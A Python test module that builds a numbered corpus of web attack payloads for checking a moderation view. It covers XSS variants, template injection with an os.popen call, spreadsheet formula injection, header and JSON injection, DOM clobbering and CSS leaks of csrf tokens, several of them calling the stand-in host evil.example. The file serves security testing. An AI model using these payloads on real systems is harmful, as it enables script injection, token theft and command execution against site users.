"""What strangers write to make a moderator's browser do something: contexts times tricks, made here.

In every payload § stands for its own number, so that what went off can be named. `__hit(§)` is the test's canary, and
evil.example a host that nothing may ask.
"""

import base64
from collections.abc import Iterator
from html import escape
from typing import NamedTuple
from urllib.parse import quote

EVIL = "evil.example"


class Payload(NamedTuple):
    """One attack."""

    kind: str
    text: str
    """With the number of the payload where it tells who it is."""


CODES = (
    "__hit(§)", "__hit`§`", "window['__hit'](§)", "top.__hit(§)", "self[atob('X19oaXQ=')](§)", "setTimeout('__hit(§)')",
    "eval('__hit(§)')", "Function('__hit(§)')()", "[§].map(__hit)", "alert(§)", "document.title='HIT §'",
    "import('//evil.example/§')", "fetch('//evil.example/§')", "new Image().src='//evil.example/§'",
    "navigator.sendBeacon('//evil.example/§')", "location='//evil.example/§'", "open('//evil.example/§')",
    "document.body.innerHTML='<img src=x onerror=__hit(§)>'", "document.write('<script>__hit(§)</script>')",
)  # fmt: skip
"""What a payload that runs may do."""

SCRIPTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script\n>{}</script\n>",
    "<script type=module>{}</script>", "<svg><script>{}</script></svg>", "<script>{}//</script>",
    "<math><mtext></mtext></math><script>{}</script>", "</bdi></a></p><script>{}</script>", "<!--><script>{}</script>-->",
    "<script src=//evil.example/§></script>", "<script src='data:text/javascript,__hit(§)'></script>",
    "<script type=importmap>{{\"imports\":{{\"a\":\"//evil.example/§\"}}}}</script>",
    "<template><script>{}</script></template><script>{}</script>",
)  # fmt: skip

ON_ITS_OWN = (
    "<img src=x onerror={}>", "<img src onerror='{}'>", '<img src=x onerror="{}" alt=x>', "<img/src=x/onerror={}>",
    "<img\nsrc=x\nonerror\n=\n{}>", "<IMG SRC=x ONERROR={}>", "<svg onload={}>", "<svg/onload={}>", "<svg\x0conload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x dur=1s>",
    "<svg><image href=x onerror={}>", "<video src=x onerror={}></video>", "<video><source src=x onerror={}></video>",
    "<audio src=x onerror={}></audio>", "<body onload={}>", "<body onpageshow={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>", "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}><summary>x</summary></details>", "<iframe onload={}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<object data=x onerror={}></object>",
    "<link rel=stylesheet href=x onerror={}>", "<style onload={}></style>", "<embed src=x onerror={}>",
    "<input type=image src=x onerror={}>", "<x tabindex=1 autofocus onfocus={}>x</x>", "<marquee onstart={}>x</marquee>",
    "<math><mi onclick={}>x</mi></math>", "<isindex type=image src=1 onerror={}>", "<xss><img src=x onerror={}></xss>",
)  # fmt: skip
"""Markup that runs code without anybody touching it, or with very little."""

EVENTS = (
    "click", "dblclick", "mousedown", "mouseup", "mouseover", "mouseenter", "mousemove", "mouseout", "mouseleave",
    "pointerdown", "pointerup", "pointerover", "pointerenter", "pointermove", "pointerout", "pointerrawupdate", "auxclick",
    "contextmenu", "wheel", "focus", "focusin", "blur", "focusout", "keydown", "keyup", "keypress", "touchstart", "touchend",
    "dragstart", "drop", "copy", "paste", "cut", "select", "selectstart", "scroll", "animationstart", "transitionend",
    "beforetoggle", "toggle",
)  # fmt: skip
QUOTES = ("'", '"', "`", "", "\u201d", "\uff02")

URLS = (
    "javascript:__hit(§)", "JaVaScRiPt:__hit(§)", "java\tscript:__hit(§)", "java\nscript:__hit(§)", "\x01javascript:__hit(§)",
    " javascript:__hit(§)", "javascript&colon;__hit(§)", "javascript&#58;__hit(§)", "&#106avascript:__hit(§)",
    "javascript://evil.example/%0a__hit(§)", "javascript:'<script>__hit(§)</script>'", "javascript:void __hit(§)",
    "data:text/html,<script>opener.__hit(§)</script>", "data:text/html;base64,{}", "vbscript:__hit(§)",
    "//evil.example/§", "https://evil.example/§", "\\\\evil.example/§", "/\\evil.example/§", "blob:https://evil.example/§",
    "view-source:https://evil.example/§", "filesystem:https://evil.example/§", "https:evil.example/§", "ftp://evil.example/§",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>', '<math href="{}">x</math>',
    '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">',
    '<form action="{}"><input type=submit></form>', '<button form=ticked formaction="{}">x</button>',
    '<meta http-equiv=refresh content="0;url={}">', '<base href="{}">', '<area href="{}">', '<img src="{}">',
)  # fmt: skip

LOADING = (
    "<img srcset='//evil.example/§ 1x'>", "<picture><source srcset='//evil.example/§'><img src=x></picture>",
    "<video poster='//evil.example/§'></video>", "<audio src='//evil.example/§' autoplay></audio>",
    "<link rel=stylesheet href='//evil.example/§'>", "<link rel=prefetch href='//evil.example/§'>",
    "<link rel=preload as=script href='//evil.example/§'>", "<link rel=modulepreload href='//evil.example/§'>",
    "<link rel=manifest href='//evil.example/§'>", "<link rel=icon href='//evil.example/§'>",
    "<link rel=prerender href='//evil.example/§'>", "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"//evil.example/§\"]}]}</script>",
    "<body background='//evil.example/§'>", "<table background='//evil.example/§'><td>x</table>",
    "<input type=image src='//evil.example/§'>", "<track src='//evil.example/§'>", "<frameset><frame src='//evil.example/§'></frameset>",
    "<a href='/review' ping='//evil.example/§'>x</a>", "<svg><use href='//evil.example/§#x'/></svg>",
    "<svg><image href='//evil.example/§'/></svg>", "<svg><feImage href='//evil.example/§'/></svg>", "<bgsound src='//evil.example/§'>",
    "<style>@import '//evil.example/§';</style>", "<style>*{background:url(//evil.example/§)}</style>",
    "<div style='background:url(//evil.example/§)'>x</div>", "<div style=\"list-style-image:url('//evil.example/§')\">x</div>",
    "<style>input[name=csrf][value^=a]{background:url(//evil.example/§)}</style>", "<style>@font-face{font-family:x;src:url(//evil.example/§)}*{font-family:x}</style>",
    "<p style='animation:x;width:expression(__hit(§));behavior:url(//evil.example/§)'>x</p>", "<style>:has([name=csrf])::before{content:url(//evil.example/§)}</style>",
    "<object type=text/html data='//evil.example/§'></object>", "<applet code=x codebase='//evil.example/§'></applet>",
    "<form action='//evil.example/§'><input name=csrf><input type=submit id=go></form>", "<img src='//evil.example/§?",
)  # fmt: skip
"""What makes a browser ask another host without any code."""

BREAKOUTS = (
    '"', "'", "`", '">', "'>", "`>", '"/>', "' />", '" x="', "</title>", "</textarea>", "</script>", "</style>", "--></p>", "]]>",
    "</bdi></span>", "</a></p>", "</option></select>", "</summary></details>", '\\">', "\\'>", "&quot;>", "&#34;>", "&#x22;>",
    "%22%3E", "\\u0022>", "\\x22>", "\u2033>", "\uff02>", "</noscript>", "</template>", "</svg>", "</math>",
)  # fmt: skip
"""Ends of what a text may stand in."""

IN_TEMPLATES = (
    "{{1337*10001}}", "{{ '1337'~'1337' }}", "{%print(1337*10001)%}", "{% if 1 %}{{1337*10001}}{% endif %}", "{#§#}",
    "${1337*10001}", "#{1337*10001}", "<%= 1337*10001 %>", "${{1337*10001}}", "@(1337*10001)", "*{1337*10001}",
    "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{cycler.__init__.__globals__}}",
    "{{lipsum.__globals__.os.popen('expr 1337 \\* 10001').read()}}", "{{visit.token}}", "{{visit.csrf}}", "{{request.environ}}",
    "{% include 'base.html' %}", "{% extends 'base.html' %}", "{% raw %}", "{% endblock %}", "{{", "}}", "{%", "{#",
    "%(n)s", "%(name)s", "%(count)s", "%s%s%s", "%n%x", "%%", "%(visit)s", "{0.__class__}", "{visit.token}", "{q}", "$name",
)  # fmt: skip
"""Template engines and format strings, those of Python among them; 1337 times 10001 is 13371337."""
COMPUTED = "13371337"

FORMULAS = (
    "=1337*10001", "+1337*10001", "-1337*10001", "@SUM(1)", "\t=1337*10001", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=HYPERLINK("http://evil.example/§")', "=cmd|'/C calc'!A0", "=DDE(\"a\";\"b\")", '=WEBSERVICE("http://evil.example/§")',
    '=IMPORTXML("http://evil.example/§","//a")', '",=1+1,"', '"\r\n=1+1,"', ";=1+1", "'=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1",
    "=1+1\"'", "|=1", "%0A=1", "\x00=1", "=§", "-§", "+§", "@§",
)  # fmt: skip

IN_JSON = (
    '","spam":false,"x":"§', '"}\n{"id":"§"}', '"},{"id":"§"}]', "\\", '\\"', '\\\\"', "\\u0022", "\u2028§", "\u2029§", "\x85§",
    "\x0b§", "\x1c§", "</script><script>__hit(§)</script>", "\ud800§", "§\udfff", "null", "[]", "{}", "0x§", "NaN", "1e999",
)  # fmt: skip

IN_HEADERS = (
    "x\r\nSet-Cookie: hit=§", "x\nLocation: //evil.example/§", "x\r\n\r\n<script>__hit(§)</script>", "x%0d%0aSet-Cookie:%20hit=§",
    "x\u560d\u560aSet-Cookie: hit=§", "x\r\n Set-Cookie: hit=§", 'x"; filename="§.exe', "x\x00y§", "\rx§", "x\u2028Set-Cookie: hit=§",
)  # fmt: skip

NAMES = (
    "status", "says", "main", "search", "ticked", "help", "note", "again", "csrf", "body", "documentElement", "cookie", "forms",
    "getElementById", "querySelector", "querySelectorAll", "addEventListener", "dataset", "activeElement", "location", "top",
    "__proto__", "constructor", "note-text", "again-name",
)  # fmt: skip
"""Ids and names that our module, or the browser itself, looks for."""
CLOBBERS = (
    "<form id={0} name={0}><input name={0} value=§></form>", "<a id={0} name={0} href='//evil.example/§'></a><a id={0}></a>",
    "<img name={0} src=x>",
)  # fmt: skip

MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror=__hit(§)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__hit(§)&gt;\">",
    '<noscript><p title="</noscript><img src=x onerror=__hit(§)>">', "<title><img src=x onerror=__hit(§)></title>",
    "<textarea><img src=x onerror=__hit(§)></textarea><img src=x onerror=__hit(§)>", "<xmp><img src=x onerror=__hit(§)></xmp>",
    '<a title="--><img src=x onerror=__hit(§)>">x</a>', "<![CDATA[><img src=x onerror=__hit(§)>]]>", "<!--[if IE]><img src=x onerror=__hit(§)><![endif]-->",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>__hit(§)</x:script>", "<!DOCTYPE x [<!ENTITY y '§'>]><x>&y;</x>",
    "<<script>script>__hit(§)<</script>/script>", "<scr<script>ipt>__hit(§)</scr</script>ipt>", "<img src=x on<b>error=__hit(§)>",
    "<select><img src=x onerror=__hit(§)></select>", "<form><form id=x><math></form><form></math><img src=x onerror=__hit(§)></form>",
    "<svg><style>&lt;img src=x onerror=__hit(§)&gt;</style></svg>", "<p id='<img src=x onerror=__hit(§)>'>x</p>", "<div popover id=y onbeforetoggle=__hit(§)>x</div><button popovertarget=y>x</button>",
)  # fmt: skip
"""Markup that browsers repair into something else."""

POLYGLOTS = (
    "'\"`--></title></style></textarea></noscript></script><svg/onload=__hit(§)>",
    "javascript:/*'\"`--></script><img src=x onerror=__hit(§)>*/__hit(§)",
    "\" onmouseover=__hit(§) x='` onmouseover=__hit(§) '><svg onload=__hit(§)>{{1337*10001}}",
    "=1+1'\"><img src=x onerror=__hit(§)>\r\nSet-Cookie: a=§;{{1337*10001}}${1337*10001}",
    "*/__hit(§)/*\"-->'><script>__hit(§)</script><!--{%print(1337*10001)%}-->",
    "';__hit(§);//\";__hit(§);//`;__hit(§);//--></script><script>__hit(§)</script>",
)  # fmt: skip

_PLAIN = "<img src=x onerror=__hit(§)>"


def _encoded() -> Iterator[str]:
    """One attack, written in ways that some step on the way may undo."""
    yield escape(_PLAIN)
    yield escape(escape(_PLAIN))
    yield "".join(f"&#{ord(c)};" if c in "<>=()" else c for c in _PLAIN)
    yield "".join(f"&#x{ord(c):06x}" if c in "<>" else c for c in _PLAIN)
    yield quote(_PLAIN, safe="§")
    yield quote(quote(_PLAIN, safe="§"), safe="§")
    yield _PLAIN.replace("<", "\\u003c").replace(">", "\\u003e")
    yield _PLAIN.replace("<", "\\x3c").replace(">", "\\x3e")
    yield _PLAIN.replace("<", "+ADw-").replace(">", "+AD4-")
    yield _PLAIN.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
    yield _PLAIN.translate({ord("<"): "\ufe64", ord(">"): "\ufe65"})
    yield _PLAIN.translate({ord("<"): "\u2039", ord(">"): "\u203a"})
    yield _PLAIN.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be")
    for between in "\x00\x01\x08\x1b\u00ad\u200b\u200d\u202e\u2066\u0336\ufeff\ufffe\U000e0069":
        yield f"<{between}img src=x onerror=__hit(§)>"
        yield f"<img{between} src=x onerror=__hit(§)>"
    yield "".join(chr(ord(c) - ord("a") + 0x1D41A) if c.islower() and c.isascii() else c for c in _PLAIN)
    yield "\u0130MG SRC=x onerror=__hit(§) <\u0131mg src=x onerror=__hit(§)> <\u017fcript>__hit(§)</\u017fcript>"


def _long() -> Iterator[str]:
    """What is hard to show, to wrap or to take apart."""
    yield "A" * 8_000 + _PLAIN
    yield "<" * 4_000 + "img src=x onerror=__hit(§)>"
    yield "<b>" * 1_000 + _PLAIN
    yield "&" * 4_000 + "lt;img src=x onerror=__hit(§)&gt;"
    yield "e" + "\u0301" * 2_000 + _PLAIN
    yield "\u202e" * 500 + _PLAIN
    yield "\n" * 2_000 + _PLAIN
    yield "https://evil.example/" + "a/" * 3_000 + "§"
    yield "(" * 4_000 + "§"
    yield "\U0001f469\u200d" * 900 + "§"


def _all() -> Iterator[tuple[str, str]]:
    yield from (("script", form.replace("{}", CODES[0]).replace("{{", "{").replace("}}", "}")) for form in SCRIPTS)
    yield from (("script", f"<script>{code}</script>") for code in CODES if "</script>" not in code)
    yield from (("handler", form.replace("{}", "__hit(§)")) for form in ON_ITS_OWN)
    yield from (("handler", f'<svg onload="{code}">') for code in CODES if '"' not in code)
    yield from (("handler", f"<b on{event}=__hit(§) tabindex=0 draggable=true>{event}</b>") for event in EVENTS)
    for quote_sign in QUOTES:
        yield "attribute", f"{quote_sign} onmouseover={quote_sign}__hit(§){quote_sign} x={quote_sign}"
        yield "attribute", f"{quote_sign} autofocus onfocus=__hit(§) tabindex=1 x={quote_sign}"
        yield "attribute", f"x{quote_sign}onclick={quote_sign}__hit(§)"
    coded = base64.b64encode(b"<script>opener.__hit(1)</script>").decode()
    urls = [url.replace("{}", coded) for url in URLS]
    yield from (("url", url) for url in urls)
    for number, url in enumerate(urls):
        yield "link", CARRIERS[0].replace("{}", url)
        yield "carrier", CARRIERS[1 + number % (len(CARRIERS) - 1)].replace("{}", url)
    yield from (("carrier", carrier.replace("{}", urls[0])) for carrier in CARRIERS)
    yield from (("carrier", carrier.replace("{}", "//evil.example/§")) for carrier in CARRIERS)
    yield from (("loading", text) for text in LOADING)
    yield from (("breakout", f"{end}{_PLAIN}") for end in BREAKOUTS)
    yield from (("breakout", f"{end}<svg onload=__hit(§)>") for end in BREAKOUTS[:16])
    yield from (("template", text) for text in IN_TEMPLATES)
    yield from (("formula", text) for text in FORMULAS)
    yield from (("json", text) for text in IN_JSON)
    yield from (("header", text) for text in IN_HEADERS)
    yield from (("clobber", CLOBBERS[number % 3].format(name)) for number, name in enumerate(NAMES))
    yield from (("mutation", text) for text in MUTATIONS)
    yield from (("polyglot", text) for text in POLYGLOTS)
    yield from (("encoded", text) for text in _encoded())
    yield from (("long", text) for text in _long())


def _numbered() -> Iterator[Payload]:
    kinds = {text: kind for kind, text in _all()}
    yield from (Payload(kind, text.replace("§", str(number))) for number, (text, kind) in enumerate(kinds.items()))


PAYLOADS = tuple(_numbered())
